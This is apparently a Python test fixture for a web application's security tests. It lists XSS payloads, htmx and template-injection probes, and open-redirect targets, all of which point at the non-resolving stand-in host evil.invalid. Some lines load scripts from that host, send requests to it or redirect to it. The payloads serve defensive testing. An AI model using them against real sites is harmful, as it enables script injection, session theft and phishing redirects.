"""Hostile input for attack tests: XSS payloads and open-redirect targets.

Every XSS payload carries ``MARKER`` so that anything it manages to create in
a page (an element, an attribute, a request, an evaluated template) can be
told apart from the page's own markup. Feed each one to every user text field
and file name (proposals, comments, nicknames …), render the result in the
browser and check it with ``tests.security.probe.payload_effects``.
"""

from __future__ import annotations

MARKER = "kxss"
EVIL_HOST = "evil.invalid"  # .invalid never resolves (RFC 2606): nothing can really leave

XSS_PAYLOADS: list[str] = [
    # plain and broken-out script tags
    "<script>alert('kxss')</script>",
    "<ScRiPt>alert('kxss')</sCrIpT>",
    "\"><script>alert('kxss')</script>",
    "'><script>alert('kxss')</script>",
    "</textarea><script>alert('kxss')</script>",
    "</title><script>alert('kxss')</script>",
    "<script src=\"https://evil.invalid/kxss.js\"></script>",
    # event handlers
    "<img src=x onerror=alert('kxss')>",
    "<svg onload=alert('kxss')>",
    "<details open ontoggle=alert('kxss')>",
    "<body onload=alert('kxss')>",
    # attribute breakouts into the element the text lands in
    "\" autofocus onfocus=\"alert('kxss')",
    "' autofocus onfocus='alert(`kxss`)",
    "\" style=\"background:url(https://evil.invalid/kxss)",
    # javascript: and data: links
    "javascript:alert('kxss')",
    " JaVaScRiPt:alert('kxss')",
    "java\tscript:alert('kxss')",
    "<a href=\"javascript:alert('kxss')\">kxss</a>",
    "<iframe src=\"javascript:alert('kxss')\"></iframe>",
    "<a href=\"data:text/html,<script>alert('kxss')</script>\">kxss</a>",
    # full-width look-alikes that NFKC normalisation would turn into markup
    "＜script＞alert('kxss')＜/script＞",
    "＜img src=x onerror=alert('kxss')＞",
    # htmx attributes: would make requests or run code if they reached the DOM
    "<div hx-get=\"/kxss\" hx-trigger=\"load\">kxss</div>",
    "<button hx-post=\"https://evil.invalid/kxss\" hx-trigger=\"load\">kxss</button>",
    "\" hx-get=\"/kxss\" hx-trigger=\"load",
    "' hx-on:click='alert(`kxss`)",
    "<div hx-on::load=\"alert('kxss')\">kxss</div>",
    # requests to elsewhere without script
    "<img src=\"https://evil.invalid/kxss.png\">",
    "<base href=\"https://evil.invalid/kxss/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.invalid/kxss\">",
    "<form action=\"https://evil.invalid/kxss\"><button>kxss</button></form>",
    "<style>@import 'https://evil.invalid/kxss.css';</style>",
    # already-escaped and percent-encoded forms (must stay text, not be decoded twice)
    "&lt;script&gt;alert('kxss')&lt;/script&gt;",
    "%3Cscript%3Ealert('kxss')%3C/script%3E",
    # template injection: Jinja, JS template literals, others
    "kxss{{7*7}}",
    "kxss${7*7}",
    "kxss#{7*7}",
    "kxss{{ config }}",
    "kxss{% print(7*7) %}",
]

# What a template engine would produce if it evaluated the payloads above.
TEMPLATE_RESULTS = ["kxss49", "kxss<Config", "kxssConfig"]

# `next` values that must never send the browser to another site.
OPEN_REDIRECT_TARGETS: list[str] = [
    "//evil.invalid",
    "//evil.invalid/path",
    "///evil.invalid",
    "/\\evil.invalid",
    "\\\\evil.invalid",
    "\\/evil.invalid",
    "/\t/evil.invalid",
    "/\n/evil.invalid",
    " //evil.invalid",
    "https:evil.invalid",
    "https:/evil.invalid",
    "https://evil.invalid",
    "HTTPS://evil.invalid",
    "http://127.0.0.1@evil.invalid",
    "//127.0.0.1@evil.invalid",
    "javascript:alert('kxss')",
    "data:text/html,kxss",
    "%2F%2Fevil.invalid",
    "/%2F/evil.invalid",
    "/%2f%2fevil.invalid",
    "/%5Cevil.invalid",
    "/%5C%5Cevil.invalid",
    "%5C%5Cevil.invalid",
    "/%09/evil.invalid",
    "/%0D%0ALocation:%20https://evil.invalid",
    "https%3A%2F%2Fevil.invalid",
    "／／evil.invalid",
    "/／evil.invalid",
    "//evil。invalid",
]
